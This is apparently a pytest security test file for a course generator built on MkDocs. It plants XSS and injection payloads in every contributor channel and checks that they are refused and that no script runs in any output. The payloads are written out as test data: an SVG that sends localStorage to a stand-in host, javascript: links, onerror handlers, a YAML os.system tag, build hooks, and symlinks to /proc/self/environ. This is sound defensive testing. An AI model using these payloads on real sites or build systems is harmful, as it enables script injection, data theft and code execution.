"""Issue 22: a hostile course, end to end, through every channel a contributor controls.

It starts from `course new course` and adds payloads through the lesson body, the course
description, quiz text, files of every type under docs_dir (SVG with script, an SVG named .png,
HTML, JavaScript, CSS, XML, a hand-written Markdown page, a PDF with script, links to
`/proc/self/environ`, to a file and a folder outside the project) and mkdocs.yml (code-running
tags, hooks, INHERIT, plugins, Markdown extensions, a theme custom_dir, extra scripts, style
sheets, templates, analytics, polyfills, the copyright text and navigation).

1. `course check` and `course build` refuse what must be refused, each with its exact message,
   and run nothing (no hook, no YAML tag).
2. With the refused files and settings removed, one build per output: the site, the offline zip
   and the workbook (`course build --offline --workbook`), a SCORM 1.2 package
   (`course export-lms`, run under scorm-again), and `course export` built by Zensical.
3. No byte from outside the project (a marker in a file outside it, and in the build's
   environment) is in any output; no refused file is; the build sent nothing to the stand-in
   server (WeasyPrint fetches nothing).
4. Chromium opens every page of every output (the offline edition from `file://`), answers
   every question, clicks every button and follows every link within the origin: no script of
   the course runs (`window.__pwned` stays undefined, no dialog), no `javascript:` link is left,
   and no request leaves the origin (the stand-in server on 127.0.0.1 receives nothing).
"""

from __future__ import annotations

import html
import io
import json
import os
import re
import shutil
import subprocess
import sys
import urllib.parse
import zipfile
from pathlib import Path

import pytest
from browser_support import serve
from trustlib import ROOT, StandIn, Watch

#: Builds, Node and the command line run as processes here (tests/conftest.py, lanes).
pytestmark = pytest.mark.process

MARKER = "OUTSIDE-MARKER-7f3a9c"
PNG_1X1 = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360f8cf000002030101a5f6453c0000000049454e44ae426082"
)
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>window.__pwned=1;'
    b"location.href='//127.0.0.1:1/?'+JSON.stringify(localStorage)</script></svg>"
)
PWN = "window.__pwned=1"


def _run(project: Path, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "TRUST_SECRET": MARKER}
    return subprocess.run(
        [sys.executable, "-m", "generator", *args],
        cwd=project,
        capture_output=True,
        text=True,
        timeout=600,
        env=env,
    )


def _indent(text: str, spaces: int = 6) -> str:
    return "".join(" " * spaces + line + "\n" for line in text.splitlines())


def _body(standin: str, refused: bool) -> str:
    host = standin.removeprefix("http://")
    lines = [
        "Write the lesson here.",
        "",
        "[full size](diagram.svg), [worksheet](worksheet.html), [notes](notes/) and "
        "[the handout](handout.pdf).",
        "",
        '<script src="../notes.js"></script>',
        f"<script>{PWN}</script>",
        '<iframe hidden src="../worksheet.html"></iframe>',
        f'<img src="{standin}/body.png" alt="outside">',
        f'<img src="images/ok.png" srcset="images/ok.png 1x, {standin}/srcset.png 2x" alt="ok">',
        f'<video controls poster="/\\{host}/poster.png"><track kind="captions" '
        'src="../media/clip.vtt" srclang="en" label="English"></video>',
        f'<a data-ci-revisit="javascript:{PWN}" href="#introduction">revisit</a>',
        '<div data-ci-hash="forged" data-ci-json="{}"></div>',
        '<div class="ci-question" data-ci-question="single_choice" data-ci-id="phantom">'
        "phantom</div>",
        f'<a data-ci-quick-exit href="{standin}/exit">exit</a>',
        '<div class="md-consent__overlay" data-md-component="consent">Restore your progress</div>',
        f'<a href="javascript:{PWN}">a script link</a> <a href="/\\{host}/slash">slash</a>',
        f'<form action="{standin}/form"><input name="x"><button>Send</button></form>',
        f'<link rel="stylesheet" href="{standin}/x.css">',
        f"<style>@import url({standin}/import.css);</style>",
        f'Click me{{: onclick="{PWN}" }}',
    ]
    if refused:
        lines.append(f'<meta http-equiv="refresh" content="0;url={standin}/refresh">')
    return "\n".join(lines)


def _line_of(text: str, needle: str) -> int:
    return next(i for i, line in enumerate(text.splitlines(), 1) if needle in line)


@pytest.fixture(scope="module")
def standin():
    with StandIn() as server:
        yield server


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, standin):
    """The hostile project (refused phase), its outside folder and the scaffold's mkdocs.yml."""
    base = tmp_path_factory.mktemp("hostile")
    outside = base / "outside"
    (outside / "folder").mkdir(parents=True)
    (outside / "secret.txt").write_text(MARKER + "\n")
    (outside / "folder" / "more.txt").write_text(MARKER + "\n")
    (outside / "outside.yml").write_text(f"extra_javascript: [{standin.url}/inherited.js]\n")
    proc = _run(base, "new", "course", "project")
    assert proc.returncode == 0, proc.stderr
    root = base / "project"
    scaffold_yml = (root / "mkdocs.yml").read_text("utf-8")
    s = standin.url
    # Bodies (a lesson section and the course description) and quiz text.
    lesson = root / "course" / "lessons" / "first-lesson.yml"
    text = lesson.read_text("utf-8")
    old = _indent(
        "Write the lesson here in Markdown: **bold**, *italic*, lists, tables.\n"
        "To link to another lesson, use `lesson:` and its id as the link target."
    )
    assert old in text
    lesson.write_text(text.replace(old, _indent(_body(s, refused=True))), "utf-8")
    manifest = root / "course" / "course.yml"
    text = manifest.read_text("utf-8")
    old = "  One or two paragraphs that introduce the course on its home page.\n"
    assert old in text
    manifest.write_text(
        text.replace(
            old, old + f'\n  <img src="{s}/description.png" alt="d"> <script>{PWN}</script>\n'
        ),
        "utf-8",
    )
    bank = root / "quizzes" / "first-lesson-quiz.yml"
    text = bank.read_text("utf-8")
    old = "    prompt: Which of these is listening rather than waiting to talk?\n"
    assert old in text
    bank.write_text(
        text.replace(
            old,
            "    prompt: "
            + json.dumps(
                f"![A chart]({s}/quiz.png) Which of these is listening? <img src=x "
                f'onerror="{PWN}"> [x](javascript:{PWN})'
            )
            + "\n",
        ).replace(
            "feedback: You take in their meaning first.",
            f'feedback: "You take in their meaning first. <script>{PWN}</script>"',
        ),
        "utf-8",
    )
    # docs_dir: every type, and links.
    docs = root / "docs"
    files: dict[str, bytes | str] = {
        "diagram.svg": SVG,
        "images/fake.png": SVG,
        "worksheet.html": f"<p>Fill in</p><script>{PWN}</script>",
        "notes.js": PWN,
        "notes.md": '# Notes\n\n<script src="../notes.js"></script>\n',
        "theme.css": "body { display: none }",
        "feed.xml": "<?xml version='1.0'?><x/>",
        "data.json": "{}",
        "bad.pdf": PDF.replace(b"/Catalog", b"/Catalog /OpenAction << /S /JavaScript /JS (x) >>"),
        ".hidden.html": f"<script>{PWN}</script>",
        "images/ok.png": PNG_1X1,
        "handout.pdf": PDF,
        "media/clip.vtt": "WEBVTT\n\n00:00.000 --> 00:01.000\nHello\n",
        "reading.txt": "Books worth reading.\n",
    }
    for rel, data in files.items():
        path = docs / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, bytes):
            path.write_bytes(data)
        else:
            path.write_text(data, "utf-8")
    (docs / "env.txt").symlink_to("/proc/self/environ")
    (docs / "secret.txt").symlink_to(outside / "secret.txt")
    (docs / "linked").symlink_to(outside / "folder")
    (docs / "images" / "again.png").symlink_to(docs / "images" / "ok.png")  # inside: fine
    # mkdocs.yml: every extra that could add script, read outside files or call elsewhere.
    (root / "hooks.py").write_text(f"open({str(outside / 'hook-ran')!r}, 'w').write('x')\n")
    (root / "overrides").mkdir()
    (root / "overrides" / "main.html").write_text(f"<script>{PWN}</script>")
    yml = (
        scaffold_yml.replace(
            "  name: material\n", "  name: material\n  custom_dir: overrides\n"
        ).replace("  - course\n", "  - course\n  - privacy\n")
        + "INHERIT: ../outside/outside.yml\n"
        "hooks:\n  - hooks.py\n"
        "markdown_extensions:\n  - pymdownx.snippets:\n      base_path: /\n"
        "extra_javascript:\n  - notes.js\n"
        "extra_css:\n  - theme.css\n"
        "extra:\n"
        "  analytics: {provider: google, property: G-XXXX}\n"
        f"  polyfills: [{s}/polyfill.js]\n"
        f"  x: !!python/object/apply:os.system ['touch {outside / 'yaml-ran'}']\n"
        f"copyright: '<img src=x onerror=\"{PWN}\">'\n"
    )
    (root / "mkdocs.yml").write_text(yml, "utf-8")
    return {"root": root, "outside": outside, "yml": yml, "scaffold_yml": scaffold_yml}


def test_check_and_build_refuse_every_channel_with_exact_messages(hostile, standin):
    root, outside, yml = hostile["root"], hostile["outside"], hostile["yml"]
    lesson = (root / "course" / "lessons" / "first-lesson.yml").read_text("utf-8")
    bank = (root / "quizzes" / "first-lesson-quiz.yml").read_text("utf-8")
    expected = [
        f"course/lessons/first-lesson.yml:{_line_of(lesson, 'body: |')}: lesson 'first-lesson', "
        "section 'introduction': the "
        'text contains <meta http-equiv="refresh">, which sends every learner on the page to '
        "another address. Remove it; link to the address instead.",
        "docs/bad.pdf: file: the PDF contains script, an embedded file or an action that opens "
        "or sends something, so it is not published. Export the handout again as a plain PDF "
        "(e.g. 'Print to PDF').",
        "docs/data.json: file: files of type '.json' under docs/ are not published; only media "
        "files are. Publish images, audio, video, captions, PDF or plain text (avif, csv, flac, "
        "gif, ico, jpeg, jpg, m4a, m4v, mp3, mp4, oga, ogg, ogv, opus, pdf, png, txt, vtt, wav, "
        "webm, webp); Ship a printable handout as PDF, or write the page as a course page "
        "(course/pages/).",
        "docs/diagram.svg: file: SVG files under docs/ are not published: an SVG opened on its "
        "own runs its script at the course's address. Export the drawing as PNG or WebP.",
        "docs/env.txt: file: the file is a link to a file outside the project, so it is not read "
        "or published. Copy the file into the project instead of linking to it.",
        "docs/feed.xml: file: XML files under docs/ are not published: a browser can run script "
        "from XML. Ship the content as PDF or plain text (.txt, .csv).",
        "docs/images/fake.png: file: the file is named like a PNG image but its content is an "
        "SVG image, so it is not published. Save it as a real PNG image, or give it the name of "
        "what it is.",
        "docs/linked: file: the file is a link to a file outside the project, so it is not read "
        "or published. Copy the file into the project instead of linking to it.",
        "docs/notes.js: file: script files under docs/ are not published: the course runs only "
        "the generator's own script. Remove the file.",
        "docs/notes.md: file: hand-written Markdown pages under docs/ are not published: they "
        "would skip the course's checks and the sanitiser. Write the page as a course page "
        "(course/pages/NAME.yml) and list it in course.yml.",
        "docs/secret.txt: file: the file is a link to a file outside the project, so it is not "
        "read or published. Copy the file into the project instead of linking to it.",
        "docs/theme.css: file: style sheets under docs/ are not published: they would restyle "
        "every page. Remove the file; the theme is set in mkdocs.yml.",
        "docs/worksheet.html: file: HTML files under docs/ are not published: a page the "
        "generator did not write would run its script at the course's address. Ship a printable "
        "handout as PDF, or write the page as a course page (course/pages/).",
        f"mkdocs.yml:{_line_of(yml, 'custom_dir')}: theme.custom_dir: a custom theme folder "
        "adds templates and files the generator does not check. Remove 'custom_dir'; logo and "
        "favicon take an image under docs_dir.",
        f"mkdocs.yml:{_line_of(yml, '- privacy')}: plugins: the plugin 'privacy' is not one a "
        "course may use. Use only course, material/offline, material/search, material/tags, "
        "offline, search, tags.",
        f"mkdocs.yml:{_line_of(yml, 'INHERIT')}: INHERIT: '../outside/outside.yml' is outside "
        "the project, so it is not read. Copy the settings into this file.",
        f"mkdocs.yml:{_line_of(yml, 'hooks:')}: hooks: build hooks run Python files from the "
        "repository on the build machine. Remove 'hooks'; the generator accepts none.",
        f"mkdocs.yml:{_line_of(yml, 'snippets')}: markdown_extensions: the Markdown extension "
        "'pymdownx.snippets' is not one a course may use. Remove it (docs/security.md lists the "
        "extensions a course may use).",
        f"mkdocs.yml:{_line_of(yml, '- notes.js')}: extra_javascript: 'notes.js' is not one of "
        "the generator's own files, and the course runs and styles itself only with those. "
        "Remove it from 'extra_javascript'.",
        f"mkdocs.yml:{_line_of(yml, '- theme.css')}: extra_css: 'theme.css' is not one of the "
        "generator's own files, and the course runs and styles itself only with those. Remove "
        "it from 'extra_css'.",
        f"mkdocs.yml:{_line_of(yml, 'analytics')}: extra.analytics: analytics send every "
        "learner's visits to another site. Remove 'extra.analytics'; the course makes no "
        "request to another site.",
        f"mkdocs.yml:{_line_of(yml, 'polyfills')}: extra.polyfills: polyfills are scripts the "
        "generator does not check. Remove 'extra.polyfills'.",
        f"mkdocs.yml:{_line_of(yml, 'python/object')}: mkdocs.yml: the tag "
        "'!!python/object/apply:os.system' would run Python code when MkDocs reads the file. "
        "Remove it; only !ENV, !relative and the emoji and fence functions listed in "
        "docs/security.md are accepted.",
        f"mkdocs.yml:{_line_of(yml, 'copyright')}: copyright: the text contains onerror=, which "
        "the footer of every page must not carry. Write plain text, or simple markup such as a "
        "link.",
        f"quizzes/first-lesson-quiz.yml:{_line_of(bank, 'prompt:')}: warning: question "
        f"'first-lesson-quiz-q1': the image '{standin.url}/quiz.png' is on another host, so the "
        "course does not show it and GIFT and QTI leave it out. Save the image under docs/ (e.g. "
        "docs/images/) and write its path, e.g. ![A chef's knife](images/knife.jpg).",
    ]
    for command in ("check", "build"):
        proc = _run(root, command)
        assert proc.returncode == 1, proc.stderr
        lines = proc.stderr.splitlines()
        missing = [e for e in expected if e not in lines]
        assert not missing, "\n".join(missing) + "\n---\n" + proc.stderr
        assert MARKER not in proc.stderr + proc.stdout
    assert not (root / "site").exists()
    assert not (outside / "hook-ran").exists() and not (outside / "yaml-ran").exists()


@pytest.fixture(scope="module")
def outputs(hostile, standin, tmp_path_factory):
    """The refused files and settings removed; then one build of every output, served."""
    root = hostile["root"]
    docs = root / "docs"
    for rel in (
        "diagram.svg",
        "images/fake.png",
        "worksheet.html",
        "notes.js",
        "notes.md",
        "theme.css",
        "feed.xml",
        "data.json",
        "bad.pdf",
        "env.txt",
        "secret.txt",
        "linked",
    ):
        (docs / rel).unlink()
    shutil.rmtree(root / "overrides")
    lesson = root / "course" / "lessons" / "first-lesson.yml"
    s = standin.url
    lesson.write_text(
        lesson.read_text("utf-8").replace(
            _indent(_body(s, refused=True)), _indent(_body(s, refused=False))
        ),
        "utf-8",
    )
    # What mkdocs.yml may still say, with markup where Material prints it unescaped.
    (root / "mkdocs.yml").write_text(
        hostile["scaffold_yml"]
        + f'site_description: \'"><img src=x onerror="{PWN}"><meta http-equiv=refresh '
        f'content="0;url={s}/description">\'\n'
        f"site_author: '<script>{PWN}</script>'\n"
        "copyright: 'Copyright <a href=\"https://example.org/\">Example</a>'\n",
        "utf-8",
    )
    www = tmp_path_factory.mktemp("hostile-www")
    proc = _run(root, "build", "--offline", "--workbook", "-d", str(www / "site"))
    assert proc.returncode == 0, proc.stderr
    assert "The sanitiser removes" not in proc.stderr  # warnings, not errors: they are listed
    proc = _run(root, "export-lms", "--format", "scorm12", str(root / "lms"))
    assert proc.returncode == 0, proc.stderr
    (package,) = (root / "lms").glob("*-scorm12.zip")
    scorm = www / "scorm"
    shutil.copytree(ROOT / "tests" / "scorm_harness", scorm)
    shutil.copytree(ROOT / "node_modules" / "scorm-again" / "dist", scorm / "scorm-again")
    with zipfile.ZipFile(package) as z:
        z.extractall(scorm / "pkg")
    proc = _run(root, "export", str(root / "exported"))
    assert proc.returncode == 0, proc.stderr
    from browser_support import zensical as find_zensical

    zensical = find_zensical()
    assert zensical, "zensical is a test dependency (pyproject.toml [test])"
    built = subprocess.run(
        [zensical, "build"], cwd=root / "exported", capture_output=True, text=True, timeout=300
    )
    assert built.returncode == 0, built.stdout + built.stderr
    shutil.copytree(root / "exported" / "site", www / "zensical")
    (offline_zip,) = (root / "dist").glob("*-offline.zip")
    offline = tmp_path_factory.mktemp("hostile-offline")
    with zipfile.ZipFile(offline_zip) as z:
        z.extractall(offline)
    build_requests = list(standin.requests)
    with serve(www, "/site/") as origin:
        yield {
            "root": root,
            "www": www,
            "origin": origin,
            "offline": offline / offline_zip.stem,
            "zips": [offline_zip, package],
            "pdf": next((root / "dist").glob("*-workbook.pdf")),
            "build_requests": build_requests,
        }


def _all_bytes(outputs) -> dict[str, bytes]:
    """Every file of every output (zips opened, the PDF's text and attachments extracted)."""
    from pypdf import PdfReader

    out: dict[str, bytes] = {}
    root = outputs["root"]
    for folder in (outputs["www"], root / "dist", root / "exported", root / "lms"):
        for p in folder.rglob("*"):
            if p.is_file() and not p.is_symlink():
                out[str(p)] = p.read_bytes()
    for z in outputs["zips"]:
        with zipfile.ZipFile(z) as archive:
            for name in archive.namelist():
                out[f"{z}!{name}"] = archive.read(name)
    reader = PdfReader(io.BytesIO(outputs["pdf"].read_bytes()))
    out["workbook text"] = "".join(p.extract_text() for p in reader.pages).encode("utf-8")
    for name, contents in reader.attachments.items():
        out[f"workbook attachment {name}"] = b"".join(contents)
    return out


def test_no_outside_byte_and_no_refused_file_in_any_output(outputs):
    files = _all_bytes(outputs)
    assert len(files) > 100
    assert [name for name, data in files.items() if MARKER.encode() in data] == []
    refused = re.compile(
        r"(?:^|[/!])(?:diagram\.svg|fake\.png|worksheet\.html|notes\.(?:js|md|html)|notes/"
        r"index\.html|theme\.css|feed\.xml|data\.json|bad\.pdf|env\.txt|secret\.txt|linked|"
        r"\.hidden\.html|more\.txt)$"
    )
    assert [name for name in files if refused.search(name)] == []
    # What passed the boundary is published, in every edition of the course.
    for edition in ("site", "scorm/pkg", "zensical"):
        assert (outputs["www"] / edition / "images" / "ok.png").read_bytes() == PNG_1X1
        assert (outputs["www"] / edition / "handout.pdf").read_bytes() == PDF
    assert (outputs["offline"] / "media" / "clip.vtt").is_file()
    assert outputs["build_requests"] == []  # WeasyPrint and the builds fetched nothing


def test_scorm_scan_counts_only_the_generators_questions(outputs):
    launch = (outputs["www"] / "scorm" / "pkg" / "scorm.html").read_text("utf-8")
    config = json.loads(html.unescape(re.search(r"data-ci-scorm='([^']*)'", launch).group(1)))
    assert config["questions"] == ["first-lesson-quiz-q1"]


def _crawl(context, start: str, same_origin, pages_seen: list[str]) -> Watch:  # type: ignore[no-untyped-def]
    """Open ``start`` and every page reachable by links within the origin; on each, answer every
    question and click every button; return what was watched."""
    from trustlib import answer_everything

    origin = re.match(r"^(\w+://[^/]*)", start).group(1) if start.startswith("http") else "file://"
    watch = Watch(origin)
    queue, seen = [start], set()
    while queue:
        url = queue.pop(0).split("#")[0]
        if url in seen:
            continue
        seen.add(url)
        page = context.new_page()
        watch.attach(page)
        page.goto(url)
        page.wait_for_load_state("load")
        page.set_default_timeout(3000)
        try:
            answer_everything(page, limit=20)
        except Exception:  # noqa: BLE001 - questions hidden on this page (the review page's)
            pass
        for button in page.locator("button:visible").all():
            try:
                button.click(timeout=2000, no_wait_after=True)
            except Exception:  # noqa: BLE001, S112 - hidden by an earlier click, or disabled
                continue
            if page.url.split("#")[0] != url:
                page.goto(url)
        assert page.evaluate("typeof window.__pwned") == "undefined", url
        assert page.locator('a[href^="javascript:" i]').count() == 0, url
        for href in page.eval_on_selector_all("a[href]", "els => els.map(a => a.href)"):
            if same_origin(href) and not href.split("#")[0].endswith((".pdf", ".txt", ".png")):
                queue.append(href)
        pages_seen.append(url)
        page.close()
    return watch


@pytest.mark.browser
@pytest.mark.parametrize("edition", ["site", "scorm/pkg", "zensical", "offline"])
def test_no_script_runs_and_nothing_leaves_in_any_edition(browser, outputs, standin, edition):
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    try:
        if edition == "offline":
            folder = outputs["offline"].as_uri()
            start = folder + "/index.html"

            def same(href: str) -> bool:
                # Links to the refused files are broken links now (the build warned of them).
                path = Path(urllib.parse.unquote(urllib.parse.urlsplit(href).path))
                return href.startswith(folder + "/") and href.endswith(".html") and path.is_file()

        else:
            base = f"{outputs['origin']}/{edition}/"
            start = base

            def same(href: str) -> bool:
                return href.startswith(base)

        pages: list[str] = []
        watch = _crawl(context, start, same, pages)
        assert len(pages) >= 5, pages  # home, lessons, the lesson, review, glossary
        assert watch.dialogs == []
        if edition == "offline":
            assert [u for u in watch.requests if u.startswith(("http:", "https:"))] == []
        else:
            assert watch.outside == []
    finally:
        context.close()
    assert standin.requests == []


@pytest.mark.browser
def test_scorm_package_under_scorm_again_runs_no_course_script(browser, outputs, standin):
    """The package launched by the stand-in LMS (scorm-again): the course page in its frames
    runs no course script and sends nothing elsewhere."""
    context = browser.new_context()
    try:
        page = context.new_page()
        watch = Watch(outputs["origin"]).attach(page)
        page.goto(f"{outputs['origin']}/scorm/harness.html?v=12")
        course = page.frame_locator("#sco").frame_locator("#ci-scorm-frame")
        course.locator("article").get_by_role("link", name="Your first lesson").first.click()
        course.get_by_role("radio").first.check()
        course.get_by_role("button", name="Check answer").click()
        for frame in page.frames:
            assert frame.evaluate("typeof window.__pwned") == "undefined"
        assert watch.outside == [] and watch.dialogs == []
    finally:
        context.close()
    assert standin.requests == []


@pytest.mark.browser
def test_control_the_probe_and_the_stand_in_catch_a_payload_that_runs(browser, outputs):
    """Control: the refused SVG, were it published, runs its script and reaches the stand-in, and
    this module's probe and stand-in see both."""
    with StandIn() as control:
        folder = outputs["www"] / "control"
        folder.mkdir(exist_ok=True)
        (folder / "diagram.svg").write_bytes(
            SVG.replace(
                b"location.href='//127.0.0.1:1/?'", f"fetch('{control.url}/?'".encode()
            ).replace(b"JSON.stringify(localStorage)</script>", b"'x')</script>")
        )
        context = browser.new_context()
        try:
            page = context.new_page()
            watch = Watch(outputs["origin"]).attach(page)
            page.goto(f"{outputs['origin']}/control/diagram.svg")
            page.wait_for_function("window.__pwned === 1")
            page.wait_for_timeout(500)
        finally:
            context.close()
        assert watch.outside and control.requests


def test_a_question_id_that_is_a_javascript_property_is_refused(tmp_path):
    """Issue 22 item 9: `constructor` (the lowercase property every object has; `__proto__` and
    `toString` fail the id pattern already) must not pass `check`."""
    proc = _run(tmp_path, "new", "course", "project")
    assert proc.returncode == 0, proc.stderr
    root = tmp_path / "project"
    bank = root / "quizzes" / "first-lesson-quiz.yml"
    bank.write_text(bank.read_text("utf-8").replace("first-lesson-quiz-q1", "constructor"))
    proc = _run(root, "check")
    assert proc.returncode == 1
    assert any(
        "'constructor'" in line and ": warning:" not in line for line in proc.stderr.splitlines()
    )
